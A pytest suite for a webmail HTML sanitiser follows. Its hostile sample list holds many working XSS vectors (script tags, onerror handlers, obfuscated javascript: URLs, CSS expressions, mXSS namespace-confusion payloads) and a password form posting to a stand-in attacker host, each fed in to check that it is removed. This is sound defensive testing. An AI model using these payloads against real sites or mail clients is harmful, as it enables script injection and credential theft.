"""The webmail's HTML sanitiser (pimail.web.sanitize): hostile samples, mail
that must survive, and a property over generated markup.

Every output is re-parsed with the standard library's html.parser and checked
against the policy (`assert_safe`): only allowed tags and attributes, links
with http/https/mailto, images from the webmail, https or data:image, no CSS
functions but colours and calc, no comments. Each hostile sample also names
the pieces that must be gone from the output.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pimail.web.sanitize import (
    ATTRIBUTES,
    MAX_TAGS,
    TAGS,
    CleanResult,
    clean_html,
    text_to_html,
)

MiB = 1024 * 1024
ATTACHMENT = "/mail/attachment/"


def cid_url(content_id: str) -> str:
    return ATTACHMENT + content_id


# -- the policy, checked on re-parsed output -------------------------------------


class Element:
    def __init__(self, tag: str, attrs: dict[str, str | None]):
        self.tag = tag
        self.attrs = attrs


class Collector(HTMLParser):
    """Elements and the unwanted constructs of a cleaned fragment."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[Element] = []
        self.unwanted: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append(Element(tag, dict(attrs)))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.unwanted.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.unwanted.append(f"declaration {decl!r}")

    def handle_pi(self, data: str) -> None:
        self.unwanted.append(f"processing instruction {data!r}")

    def unknown_decl(self, data: str) -> None:
        self.unwanted.append(f"declaration {data!r}")


def parse(html: str) -> Collector:
    collector = Collector()
    collector.feed(html)
    collector.close()
    return collector


LINK = re.compile(r"(?:https?://|mailto:)", re.IGNORECASE)
IMAGE = re.compile(
    rf"(?:https://|http://|{ATTACHMENT}|data:image/(?:png|gif|jpeg|jpg|webp);base64,)",
    re.IGNORECASE,
)
CSS_FUNCTION = re.compile(r"(?<![-\w])([-\w]*)\(")


def assert_safe(html: str) -> Collector:
    """Fails unless `html`, parsed again, keeps to the policy."""
    collector = parse(html)
    assert not collector.unwanted, collector.unwanted
    for element in collector.elements:
        tag, attrs = element.tag, element.attrs
        assert tag in TAGS, f"tag <{tag}> in {html[:300]!r}"
        allowed = ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set())
        if tag == "a":
            allowed = allowed | {"rel", "target"}
            assert attrs.get("rel") == "noopener noreferrer", attrs
            assert attrs.get("target") == "_blank", attrs
        for name, value in attrs.items():
            assert name in allowed, f"<{tag} {name}={value!r}>"
            assert not name.startswith("on")
            value = value or ""
            if name == "href":
                assert LINK.match(value), value
            if name in ("src", "background"):
                assert IMAGE.match(value), value
            if name == "srcset":
                assert all(c.strip().startswith(("http://", "https://")) for c in value.split(","))
            if name == "style":
                lowered = value.lower()
                assert "\\" not in lowered and "@" not in lowered and "/*" not in lowered
                functions = {m.group(1) for m in CSS_FUNCTION.finditer(lowered)}
                assert functions <= {"rgb", "rgba", "hsl", "hsla", "calc"}, value
                assert "position" not in lowered and "behavior" not in lowered
    return collector


# -- hostile samples -------------------------------------------------------------

# (name, HTML, pieces that must not be in the output, compared in lower case)
HOSTILE = [
    ("script", "<p>hi</p><script>alert(1)</script>", ["<script", "alert"]),
    ("script upper case", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", ["<script", "evil"]),
    ("script mixed case", "<ScRiPt>alert(1)</sCrIpT>", ["script", "alert"]),
    ("script in svg", "<svg><script>alert(1)</script></svg>", ["<svg", "<script", "alert"]),
    ("script with NUL", "<scr\x00ipt>alert(1)</script>", ["<scr", "script>"]),
    ("onerror", "<img src=x onerror=alert(1)>", ["onerror", "alert"]),
    ("onload", "<body onload=alert(1)><p>x</p>", ["onload", "alert"]),
    ("onclick", '<div onclick="alert(1)">x</div>', ["onclick", "alert"]),
    ("onmouseover", "<a onmouseover=alert(1) href=https://ok.example/>x</a>", ["onmouseover"]),
    ("javascript href", '<a href="javascript:alert(1)">x</a>', ["javascript", "alert"]),
    ("javascript tab", '<a href="jav&#x09;ascript:alert(1)">x</a>', ["ascript", "alert"]),
    ("javascript newline", '<a href="jav&#x0A;ascript:alert(1)">x</a>', ["ascript", "alert"]),
    ("javascript raw newline", '<a href="java\nscript:alert(1)">x</a>', ["script", "alert"]),
    ("javascript spaces, case", '<a href="  JaVaScRiPt:alert(1)">x</a>', ["javascript"]),
    (
        "javascript entities",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
        ["javascript", "alert"],
    ),
    ("javascript NUL", '<a href="java\x00script:alert(1)">x</a>', ["script:", "alert"]),
    ("vbscript", '<a href="vbscript:msgbox(1)">x</a>', ["vbscript", "msgbox"]),
    (
        "data:text/html link",
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
        ["data:", "phnj"],
    ),
    ("relative link", '<a href="/settings/delete-account">x</a>', ["/settings"]),
    ("protocol-relative link", '<a href="//evil.example/">x</a>', ["evil"]),
    ("iframe", '<iframe src="https://evil.example/"></iframe>', ["<iframe", "evil"]),
    ("object", '<object data="https://evil.example/x.swf"></object>', ["<object", "swf"]),
    ("embed", '<embed src="https://evil.example/x.swf">', ["<embed", "swf"]),
    (
        "form",
        '<form action="https://evil.example/steal"><input name=p type=password>'
        "<button formaction=https://evil.example/>Go</button></form>",
        ["<form", "<input", "<button", "action", "evil", "password"],
    ),
    ("textarea", "<textarea><img src=x onerror=alert(1)></textarea>", ["<textarea", "onerror"]),
    (
        "meta refresh",
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">x',
        ["<meta", "refresh", "evil"],
    ),
    ("base", '<base href="https://evil.example/"><a href="x">y</a>', ["<base", "evil"]),
    (
        "link stylesheet",
        '<link rel=stylesheet href="https://evil.example/x.css">',
        ["<link", "evil"],
    ),
    (
        "style @import",
        "<style>@import url(https://evil.example/x.css); p{color:red}</style><p>x</p>",
        ["<style", "@import", "evil", "color:red"],
    ),
    ("style url()", '<p style="background:url(http://evil.example/t.png)">x</p>', ["url(", "evil"]),
    ("style behavior", '<p style="behavior:url(x.htc)">x</p>', ["behavior", "htc"]),
    ("style expression", '<p style="width:expression(alert(1))">x</p>', ["expression", "alert"]),
    ("style -moz-binding", '<p style="-moz-binding:url(http://evil.example/x#x)">x</p>', ["bind"]),
    (
        "style position fixed",
        '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">x</div>',
        ["position", "fixed", "z-index"],
    ),
    ("style CSS escape", '<p style="background:u\\72 l(http://evil.example/x)">x</p>', ["evil"]),
    ("style entity", '<p style="background:url&#40;http://evil.example/x)">x</p>', ["evil"]),
    ("style comment", '<p style="background:url/**/(http://evil.example/x)">x</p>', ["evil"]),
    (
        "style image-set",
        "<p style=\"background-image:image-set('http://evil.example/x.png' 1x)\">x</p>",
        ["evil", "image-set"],
    ),
    ("remote img", '<img src="http://evil.example/pixel.gif" alt="Logo">', ["evil"]),
    ("protocol-relative img", '<img src="//evil.example/pixel.gif">', ["evil"]),
    (
        "srcset",
        '<img srcset="http://evil.example/a.png 1x, http://evil.example/b.png 2x">',
        ["evil", "srcset"],
    ),
    ("body background", '<body background="http://evil.example/bg.png"><p>x</p>', ["evil"]),
    (
        "table background",
        '<table background="http://evil.example/bg.png"><tr><td>x</td></tr></table>',
        ["evil", "background"],
    ),
    (
        "td background",
        '<table><tr><td background="https://evil.example/bg.png">x</td></tr></table>',
        ["evil", "background"],
    ),
    (
        "video poster",
        '<video poster="http://evil.example/p.png"><source src="http://evil.example/v.mp4">'
        "</video>",
        ["evil", "<video", "<source"],
    ),
    ("img javascript", '<img src="javascript:alert(1)">', ["javascript"]),
    ("img data html", '<img src="data:text/html,<script>alert(1)</script>">', ["data:", "script"]),
    ("img data svg", '<img src="data:image/svg+xml;base64,PHN2Zz4=">', ["svg", "data:"]),
    ("img cid without cid_url", '<img src="cid:logo@x" alt=L>', ["cid:"]),
    (
        "target override",
        '<a href="https://ok.example/" target="_self" rel="opener">x</a>',
        ["_self", '"opener"'],
    ),
    (
        "svg xlink",
        '<svg><a xlink:href="javascript:alert(1)"><text x="1" y="2">x</text></a></svg>',
        ["<svg", "javascript", "xlink"],
    ),
    ("math", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>', ["<math", "javascript"]),
    (
        "mso conditional comment",
        '<!--[if gte mso 9]><img src="http://evil.example/x.png"><![endif]--><p>x</p>',
        ["evil", "<!--", "mso"],
    ),
    ("downlevel-revealed", "<![if !mso]><p>x</p><![endif]>", ["<!", "mso"]),
    (
        "noscript title",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
        ["onerror", "<noscript"],
    ),
    ("noscript img", '<noscript><img src="http://evil.example/t.gif"></noscript>', ["evil"]),
    ("xmp", "<xmp><img src=x onerror=alert(1)></xmp>", ["onerror", "<xmp"]),
    ("template", "<template><img src=x onerror=alert(1)></template>", ["onerror"]),
    (
        "svg style mXSS",
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
        ["onerror", "<svg", "<style"],
    ),
    (
        "mathml mglyph mXSS",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        ["onerror", "<math", "<mglyph"],
    ),
    (
        "form namespace confusion",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        ["onerror", "<form", "<math"],
    ),
    ("unclosed img", '<p>x<img src="x" onerror="alert(1)"', ["onerror", "alert"]),
    ("unclosed link", '<a href="javascript:alert(1)"', ["javascript"]),
    ("unclosed comment", "<p>x</p><!-- <img src=x onerror=alert(1)>", ["onerror", "<!--"]),
    ("NUL everywhere", "<img\x00 src=x on\x00error=alert(1)>\x00", ["error=", "\x00"]),
    ("title", "<title>Phish</title><p>x</p>", ["<title", "phish"]),
    ("area href", '<map><area href="javascript:alert(1)"></map>', ["javascript", "<area"]),
]


# Remote images that allow_remote=True shows (its URL is then no longer "gone").
SHOWN_WHEN_ALLOWED = {
    "remote img", "protocol-relative img", "srcset", "table background", "td background"
}  # fmt: skip


@pytest.mark.parametrize(("name", "html", "gone"), HOSTILE, ids=[h[0] for h in HOSTILE])
@pytest.mark.parametrize("allow_remote", [False, True], ids=["blocked", "allowed"])
def test_hostile(name: str, html: str, gone: list[str], allow_remote: bool) -> None:
    result = clean_html(html, allow_remote=allow_remote, cid_url=cid_url)
    assert_safe(result.html)
    if allow_remote and name in SHOWN_WHEN_ALLOWED:
        assert "evil.example" in result.html
        gone = [piece for piece in gone if piece not in ("evil", "srcset", "background")]
    for piece in gone:
        assert piece not in result.html.lower(), (piece, result.html)


def test_enough_hostile_samples() -> None:
    assert len(HOSTILE) >= 30


# -- mail that must survive ------------------------------------------------------

NEWSLETTER = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>News</title>
<style>td{font-family:Arial}</style></head>
<body bgcolor="#eeeeee">
<center>
<table width="600" align="center" cellpadding="0" cellspacing="0" border="0" bgcolor="#ffffff"
 style="border-collapse:collapse;max-width:600px">
 <thead><tr><th colspan="2" align="left" style="padding:10px 20px;color:#333333">Weekly</th></tr>
 </thead>
 <tbody>
 <tr>
  <td width="200" valign="top" rowspan="2" bgcolor="#f0f0f0">
   <img src="cid:logo%40example.org" alt="Example logo" width="180" height="60" border="0">
  </td>
  <td valign="top" align="right" style="font-size:14px;line-height:1.4;color:rgb(10,20,30)">
   <font color="#ff0000" face="Arial, sans-serif" size="2"><b>Sale</b> <i>now</i></font>
   <p align="center">Read <a href="https://shop.example/offer?id=1&amp;u=2">the offer</a>.</p>
  </td>
 </tr>
 <tr><td><h1>Title</h1><ul><li>one</li><li>two</li></ul><blockquote>q</blockquote>
  <pre>pre</pre><code>code</code><hr width="80%"><u>u</u><s>s</s><em>e</em><strong>s</strong>
  <span style="color:#123456">span</span><div>div</div><br></td></tr>
 </tbody>
 <tfoot><tr><td colspan="2"><img src="https://cdn.example/footer.png" alt="Footer" width="600">
  <a href="mailto:news@example.org?subject=unsubscribe">Unsubscribe</a></td></tr></tfoot>
</table>
<table><colgroup><col width="50%"><col span="1"></colgroup><tr><td>x</td></tr></table>
</center></body></html>"""


def elements(html: str, tag: str) -> list[dict[str, str | None]]:
    return [e.attrs for e in assert_safe(html).elements if e.tag == tag]


def test_newsletter_layout_survives() -> None:
    result = clean_html(NEWSLETTER, allow_remote=False, cid_url=cid_url)
    html = result.html
    table = elements(html, "table")[0]
    assert table["width"] == "600" and table["align"] == "center"
    assert table["cellpadding"] == "0" and table["cellspacing"] == "0"
    assert table["border"] == "0" and table["bgcolor"] == "#ffffff"
    assert "border-collapse:collapse" in (table["style"] or "")
    th = elements(html, "th")[0]
    assert th["colspan"] == "2" and th["align"] == "left"
    first_td = elements(html, "td")[0]
    assert first_td == {"width": "200", "valign": "top", "rowspan": "2", "bgcolor": "#f0f0f0"}
    assert elements(html, "font") == [
        {"color": "#ff0000", "face": "Arial, sans-serif", "size": "2"}
    ]
    assert elements(html, "col") == [{"width": "50%"}, {"span": "1"}]
    assert elements(html, "hr") == [{"width": "80%"}]
    for tag in ["center", "thead", "tbody", "tfoot", "tr", "colgroup", "b", "i", "p", "h1",
                "ul", "li", "blockquote", "pre", "code", "u", "s", "em", "strong", "span",
                "div", "br"]:  # fmt: skip
        assert elements(html, tag), tag
    assert "rgb(10,20,30)" in html.replace(" ", "")
    # the head is gone, text and all
    assert "News" not in html and "font-family:Arial" not in html
    # the remote footer image is blocked, its alt and size kept; the logo is rewritten
    assert elements(html, "img") == [
        {"src": ATTACHMENT + "logo@example.org", "alt": "Example logo", "width": "180",
         "height": "60", "border": "0"},
        {"alt": "Footer", "width": "600"},
    ]  # fmt: skip
    assert result.blocked_remote == 1 and not result.truncated
    links = elements(html, "a")
    assert [a["href"] for a in links] == [
        "https://shop.example/offer?id=1&u=2",
        "mailto:news@example.org?subject=unsubscribe",
    ]


def test_cid_images_go_through_cid_url() -> None:
    seen: list[str] = []

    def lookup(content_id: str) -> str | None:
        seen.append(content_id)
        return None if content_id == "missing" else f"{ATTACHMENT}{len(seen)}"

    html = (
        '<img src="cid:part1.abc@example.org" alt="a"><img src="CID:%3Cx%3E">'
        '<img src="cid:missing" alt="gone"><table><tr><td background="cid:bg">x</td></tr></table>'
    )
    result = clean_html(html, allow_remote=False, cid_url=lookup)
    assert seen == ["part1.abc@example.org", "x", "missing", "bg"]
    assert elements(result.html, "img") == [
        {"src": ATTACHMENT + "1", "alt": "a"},
        {"src": ATTACHMENT + "2"},
        {"alt": "gone"},
    ]
    assert elements(result.html, "td") == [{"background": ATTACHMENT + "4"}]
    assert result.blocked_remote == 0


@pytest.mark.parametrize(
    "bad", ["javascript:alert(1)", "//evil.example/x", "data:text/html,x", "relative"]
)
def test_cid_url_must_return_a_webmail_url(bad: str) -> None:
    result = clean_html('<img src="cid:x" alt="a">', allow_remote=True, cid_url=lambda _: bad)
    assert elements(result.html, "img") == [{"alt": "a"}]


REMOTE = (
    '<img src="https://img.example/a.png" alt="A">'
    '<img src="http://img.example/b.png" srcset="https://img.example/b2.png 2x">'
    '<img src="//img.example/c.png">'
    '<table background="https://img.example/t.png"><tr>'
    '<td background="http://img.example/d.png">x</td></tr></table>'
)


def test_remote_images_blocked_and_counted() -> None:
    result = clean_html(REMOTE, allow_remote=False)
    assert result.blocked_remote == 6
    assert "img.example" not in result.html
    assert elements(result.html, "img") == [{"alt": "A"}, {}, {}]


def test_remote_images_kept_when_allowed() -> None:
    result = clean_html(REMOTE, allow_remote=True)
    assert result.blocked_remote == 0
    assert elements(result.html, "img") == [
        {"src": "https://img.example/a.png", "alt": "A"},
        {"src": "http://img.example/b.png", "srcset": "https://img.example/b2.png 2x"},
        {"src": "https://img.example/c.png"},
    ]
    assert elements(result.html, "table") == [{"background": "https://img.example/t.png"}]
    assert elements(result.html, "td") == [{"background": "http://img.example/d.png"}]


def test_data_images_allowed_in_img_only() -> None:
    png = "data:image/png;base64,iVBORw0KGgo="
    html = f'<img src="{png}"><a href="{png}">x</a><table background="{png}"><tr><td>x'
    result = clean_html(html, allow_remote=False)
    assert elements(result.html, "img") == [{"src": png}]
    assert "href" not in result.html and "background" not in result.html
    assert result.blocked_remote == 0


def test_links() -> None:
    html = (
        '<a href="mailto:alice@example.org">mail</a><a href="https://x.example/" target="_top">'
        'x</a><a href=" https://y.example/\n">y</a><a name="anchor">z</a>'
    )
    links = elements(clean_html(html, allow_remote=False).html, "a")
    assert [a.get("href") for a in links] == [
        "mailto:alice@example.org",
        "https://x.example/",
        "https://y.example/",
        None,
    ]
    assert all(a["target"] == "_blank" and a["rel"] == "noopener noreferrer" for a in links)


def test_style_keeps_safe_declarations() -> None:
    html = (
        "<p style=\"color: red; background: url(http://x.example/a); font-family: 'Curlz MT';"
        " position: absolute; padding: 0 4px; width: calc(100% - 8px); content: 'x'\">x</p>"
    )
    style = elements(clean_html(html, allow_remote=True).html, "p")[0]["style"] or ""
    assert "color:red" in style.replace(" ", "")
    assert "Curlz MT" in style and "padding" in style and "calc(" in style
    assert "url(" not in style and "position" not in style and "content" not in style


def test_result_type_and_plain_text() -> None:
    result = clean_html("just text & <more>", allow_remote=False)
    assert result == CleanResult("just text &amp; ", 0, False)


def test_lone_surrogates_and_nul() -> None:
    result = clean_html("<p>a\udcff\x00b</p>", allow_remote=False)
    result.html.encode("utf-8")
    assert "\x00" not in result.html and result.html.startswith("<p>a")
    text_to_html("a\udcff\x00b").encode("utf-8")


# -- size and work budget ----------------------------------------------------------


def test_five_megabytes_of_newsletter_finishes() -> None:
    block = NEWSLETTER.split("<center>")[1].split("</center>")[0]
    html = block * (5 * MiB // len(block) + 1)
    result = clean_html(html, allow_remote=False, cid_url=cid_url)
    assert_safe(result.html)
    assert result.truncated  # far more than MAX_TAGS tags
    assert "Weekly" in result.html


def test_five_megabytes_of_text_is_kept_whole() -> None:
    paragraph = "<p>" + "Lorem ipsum dolor sit amet &amp; more. " * 130 + "</p>\n"
    html = paragraph * (5 * MiB // len(paragraph) + 1)
    result = clean_html(html, allow_remote=False)
    assert not result.truncated
    assert result.html.count("<p>") == html.count("<p>")


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * (5 * MiB // 5),
        "<ul><li>" * (5 * MiB // 8),
        "".join(f"<b {i}>" for i in range(500)) + "".join(f"<i {i}>" for i in range(500))
        + "x</b>" * (5 * MiB // 5),
        "".join(f"<i class={i}>x" for i in range(300_000)),
        "word&nbsp;" * (5 * MiB // 10),
        "<table>" + "<div>x" * (5 * MiB // 6),
    ],
    ids=["nested div", "nested list", "formatting", "formatting text", "references", "foster"],
)  # fmt: skip
def test_pathological_nesting_is_cut(html: str) -> None:
    result = clean_html(html, allow_remote=False)
    assert result.truncated
    assert_safe(result.html)


def test_budget_cut_is_at_a_tag() -> None:
    html = "<p>x</p>" * MAX_TAGS
    result = clean_html(html, allow_remote=False)
    assert result.truncated
    assert result.html.count("<p>") == MAX_TAGS // 2


# -- text/plain ------------------------------------------------------------------


def test_text_to_html_escapes_and_links() -> None:
    text = (
        "1 < 2 & 3 > 2\r\nsee https://example.org/a?b=1&c=2. or (https://en.example/X_(y))\n"
        "not javascript:alert(1) nor <script>alert(1)</script>\n"
        "write to mailto:bob@example.org, thanks\n\n  indented"
    )
    html = text_to_html(text).replace('<div class="mail-text">', "<div>", 1)  # our wrapper
    collector = assert_safe(html)
    assert "1 &lt; 2 &amp; 3 &gt; 2<br>" in html
    links = [e.attrs["href"] for e in collector.elements if e.tag == "a"]
    assert links == [
        "https://example.org/a?b=1&c=2",
        "https://en.example/X_(y)",
        "mailto:bob@example.org",
    ]
    assert "<script" not in html and 'href="javascript' not in html
    assert html.count("<br>") == 5
    assert "".join(collector.text) == text.replace("\r\n", "\n").replace("\n", "")


def test_text_to_html_quotes_in_urls() -> None:
    html = text_to_html('https://x.example/"onmouseover="alert(1)')
    html = html.replace(' class="mail-text"', "", 1)  # our wrapper
    assert_safe(html)
    assert 'href="https://x.example/"' in html


# -- property ----------------------------------------------------------------------

PIECES = [
    "<", ">", "/", "=", '"', "'", " ", "\n", "\t", "\x00", "&", "&#", ";", "x", ":", "(", ")",
    "<!--", "-->", "<![CDATA[", "]]>", "<!", "<?", "\\", "@", "/*", "*/",
    "script", "svg", "math", "style", "img", "a", "iframe", "table", "td", "noscript",
    "title", "textarea", "template", "xmp", "form", "mglyph", "mtext", "foreignObject",
    "src", "href", "srcset", "background", "onerror", "onload", "xlink:href", "style=",
    "javascript:", "jav&#x09;ascript:", "data:text/html,", "data:image/png;base64,",
    "cid:", "http://", "https://", "//", "mailto:", "url(", "expression(",
    "position:fixed", "behavior:", "alert(1)", "&lt;", "&#x3c;",
]  # fmt: skip
markup = st.lists(st.sampled_from(PIECES) | st.text(max_size=5), max_size=60).map("".join)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(markup, st.booleans())
def test_any_input_comes_out_safe(html: str, allow_remote: bool) -> None:
    result = clean_html(html, allow_remote=allow_remote, cid_url=cid_url)
    assert_safe(result.html)
    assert "<script" not in result.html.lower()
    assert not re.search(r"<[^>]*\son\w*\s*=", result.html, re.IGNORECASE)


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_any_text_comes_out_safe(text: str) -> None:
    html = text_to_html(text).replace('<div class="mail-text">', "<div>", 1)  # our wrapper
    collector = assert_safe(html)
    assert {e.tag for e in collector.elements} <= {"div", "br", "a"}
